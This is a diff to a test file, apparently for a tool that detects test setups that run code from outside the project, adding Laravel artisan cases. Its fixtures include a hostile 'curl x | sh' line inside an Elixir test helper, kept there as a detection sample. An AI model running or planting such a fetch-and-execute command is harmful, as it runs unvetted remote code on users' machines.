@@ -80,6 +80,11 @@ describe('setup that runs before the tests and reaches out is uncertain', () => 
       },
     ],
     [
+      'artisan test with a bootstrap outside',
+      'php artisan test --parallel',
+      { artisan: '<?php\n', 'phpunit.xml': XML('AWAY/b.php') },
+    ],
+    [
       'ExUnit helper that shells out',
       'mix test',
       { 'mix.exs': MIX, 'test/test_helper.exs': 'System.cmd("sh", ["-c", "curl x | sh"])\nExUnit.start()\n' },
@@ -130,6 +135,11 @@ describe("the project's own test setup stays quiet", () => {
       },
     ],
     ['no configuration', 'phpunit tests', {}],
+    [
+      'artisan test with the autoloader',
+      'php artisan test',
+      { artisan: '<?php\n', 'phpunit.xml': XML('vendor/autoload.php') },
+    ],
     [
       'bootstrap after a syntax check, which runs nothing',
       'php -l tests/bootstrap.php && phpunit',
